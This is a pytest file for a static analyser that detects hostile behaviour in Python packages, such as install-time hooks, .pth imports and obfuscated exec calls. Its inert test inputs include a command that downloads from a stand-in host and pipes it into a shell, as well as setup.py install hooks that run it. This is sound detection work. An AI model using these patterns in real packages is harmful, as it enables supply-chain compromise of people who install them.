"""When Python code happens, which files are code at all, and that hostile ones do no harm. All of it is inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.python import python_facts

CALL = "os.system('curl https://drop.invalid/a | sh')"


def look(code: str, path: str = "package/__init__.py") -> CodeFacts:
    return python_facts(path, code.encode())


def at_load(found: CodeFacts) -> bool:
    return next(fact.at_load for fact in found.facts if fact.behaviour is Behaviour.RUNS_SHELL)


@pytest.mark.parametrize(
    "code",
    [
        f"import os\n{CALL}",
        f"import os\ndef go():\n    {CALL}\ngo()",
        f"import os\nclass A:\n    {CALL}",
        f"import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        {CALL}\nA()",
        f"import os, atexit\n@atexit.register\ndef go():\n    {CALL}",
        f"import os, threading\ndef go():\n    {CALL}\nthreading.Thread(target=go).start()",
        f"import os, asyncio\nasync def go():\n    {CALL}\nasyncio.run(go())",
        f"import os\ntry:\n    {CALL}\nexcept ImportError:\n    pass",
        f"import os\ndef deco(f):\n    {CALL}\n    return f\n(deco)(1)",
        f"import os\nx = [{CALL} for _ in (1,)]",
    ],
)
def test_knows_what_happens_when_a_module_is_loaded(code: str) -> None:
    """Code at module level, and all that it calls, happens at load."""
    assert at_load(look(code))


@pytest.mark.parametrize(
    "code",
    [
        f"import os\ndef go():\n    {CALL}",
        f"import os\nif __name__ == '__main__':\n    {CALL}",
        f"import os\nclass A:\n    def run(self):\n        {CALL}",
        f"import os\ngo = lambda: {CALL}",
    ],
)
def test_knows_what_waits_for_a_call(code: str) -> None:
    """What only a caller or the command line starts does not happen at load."""
    assert not at_load(look(code))


COMMAND_CLASS = (
    "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
    f"class After(install):\n    def run(self):\n        install.run(self)\n        self.go()\n   "
    f" def go(self):\n        {CALL}\n"
    "setup(cmdclass={'install': After})"
)


def test_commands_of_a_setup_script_happen_at_install() -> None:
    """The run method of a command class in setup.py runs when the package is installed; elsewhere it waits."""
    assert at_load(look(COMMAND_CLASS, "setup.py"))
    assert not at_load(look(COMMAND_CLASS, "package/commands.py"))


def test_a_setup_script_is_the_main_program() -> None:
    """A main guard in setup.py holds nothing back."""
    assert at_load(look(f"import os\nif __name__ == '__main__':\n    {CALL}", "setup.py"))


def test_a_maintainers_branch_waits() -> None:
    """What a setup.py does only when it is told to publish is not done at install; what it does at install is."""
    head = "import os, sys\nif sys.argv[-1] == "
    assert not at_load(look(f"{head}'publish':\n    {CALL}", "setup.py"))
    assert at_load(look(f"{head}'install':\n    {CALL}", "setup.py"))


def test_import_lines_of_a_path_file_are_code() -> None:
    """A line of a .pth file that begins with import runs at every start; the other lines are folders."""
    found = look(f"/opt/{CALL}\nimport os; {CALL}\n", "evil.pth")
    assert [(fact.line, fact.at_load) for fact in found.facts if fact.behaviour is Behaviour.RUNS_SHELL] == [(2, True)]


def test_an_everyday_path_file_does_nothing() -> None:
    """A .pth file that names folders has no facts."""
    assert look("../src\n/opt/os.system/exec(x)\n", "folder.pth") == CodeFacts()


def test_reads_python_2() -> None:
    """Code for Python 2 is read too."""
    found = look("import urllib2\nprint 'x'\nexec urllib2.urlopen('https://drop.invalid').read()\n")
    assert (Behaviour.DOWNLOADS, Behaviour.RUNS_CODE) in {
        (flow.source.behaviour, flow.sink.behaviour) for flow in found.flows
    }


def test_reads_syntax_newer_than_its_own() -> None:
    """Quotes nested in an f-string, which older interpreters refuse, hide nothing."""
    found = look("import os\nd = {'k': 'sh'}\ntype X = int\nos.system(f'curl https://drop.invalid/a | {d['k']}')\n")
    assert at_load(found)


def test_reads_on_after_an_error() -> None:
    """A line that is no Python does not hide what follows."""
    assert at_load(look(f"import os\nx = = 3 $$\n{CALL}\n"))


@pytest.mark.parametrize("encoding", ["utf-7", "utf-16"])
def test_reads_declared_encodings(encoding: str) -> None:
    """Code in an encoding that no reader sees through is decoded as Python would."""
    code = f"import os\n{CALL}\n"
    head = b"" if encoding == "utf-16" else f"# coding: {encoding}\n".encode()
    data = head + code.encode(encoding)
    assert at_load(python_facts("a.py", data))


@pytest.mark.parametrize(
    "code",
    [
        "exec(" + "(" * 5000 + "1" + ")" * 5000 + ")",
        "import os\nx = " + "[" * 3000 + "os.system('a')" + "]" * 3000,
        "exec(a" + ".b()" * 5000 + ")",
        "eval(" + "-" * 20000 + "1)",
        "exec(x)\n" + "if x:\n".join(" " * level for level in range(300)) + "pass",
        "exec('x')\n" + "a = " * 5000 + "1",
        "def f(): return g()\ndef g(): return f()\nexec(f())",
        "exec((lambda f: f(f))(lambda f: f(f)))",
    ],
)
def test_survives_deep_nesting(code: str) -> None:
    """Code that nests or recurs beyond all measure is left unfinished, never a crash."""
    assert isinstance(look(code), CodeFacts)


def test_says_when_it_did_not_finish() -> None:
    """A file that nests too deeply comes back as not analysed to its end."""
    assert not look("exec(a" + ".b()" * 5000 + ")").parsed


@pytest.mark.parametrize(
    "code",
    [
        "a = 'x' * 100000\n" + "a = a + a\n" * 40 + "exec(a)",
        "a = [1]\n" + "a = [a, a, *a, *a]\n" * 60 + "exec(a)",
        "import zlib\nexec(zlib.decompress(b'x' * 10))\n" + "b = 9 ** 9 ** 9 << 99999999\n",
        "a = '%s' * 100000\nexec(a % a % a)\nexec('{:9999999999}'.format(1))\nexec('%9999999999d' % 1)",
        "exec('x'.replace('x', 'x' * 99999).replace('x', 'y' * 99999))",
        "exec(''.join(chr(i) for i in range(10 ** 12)))",
        "code = 'exec(code)'\nexec(code)",
    ],
)
def test_bounds_what_constants_cost(code: str) -> None:
    """Constants that would fill the memory, and payloads that run themselves, come to an end."""
    found = look(code)
    assert not found.parsed or Behaviour.RUNS_CODE in {fact.behaviour for fact in found.facts}


def test_refuses_what_is_no_python() -> None:
    """Bytes that are no code are marked so."""
    assert not python_facts("a.py", b"<html><p>exec (</p>}{;; " * 200).parsed


def test_looks_at_both_ends_of_a_huge_file() -> None:
    """Padding does not hide what stands at the end of a file, and the mark says that something was left out."""
    found = look(f"import os\n{'# padding' * 9 + chr(10)}" + ("# padding" * 9 + "\n") * 40_000 + CALL)
    assert [(fact.line, fact.at_load) for fact in found.facts if fact.behaviour is Behaviour.RUNS_SHELL] == [
        (40_003, True)
    ]
    assert not found.parsed


def test_names_imports() -> None:
    """Modules are named as they are asked for, with members that may be modules of the package itself."""
    found = look("import os, sys as s\nfrom os.path import join\nfrom . import a, b as c\nfrom .d import e\n")
    assert found.imports == ("os", "sys", "os.path", ".", ".a", ".b", ".d", ".d.e")


def test_gives_telling_strings() -> None:
    """Long encoded runs and addresses known for something are among the strings; plain text is not."""
    blob, hook = "QUJD" * 60, "https://discord.com/api/webhooks/1/x"
    found = look(f"A = '{blob}'\nB = '{hook}'\nC = 'https://example.com/'\nD = '{'plain words ' * 40}'\n")
    assert found.strings == (blob, hook)


def test_boring_files_have_no_facts() -> None:
    """A file that cannot do anything of interest is not looked at further."""
    assert look("def add(a, b):\n    return a + b\n") == CodeFacts()
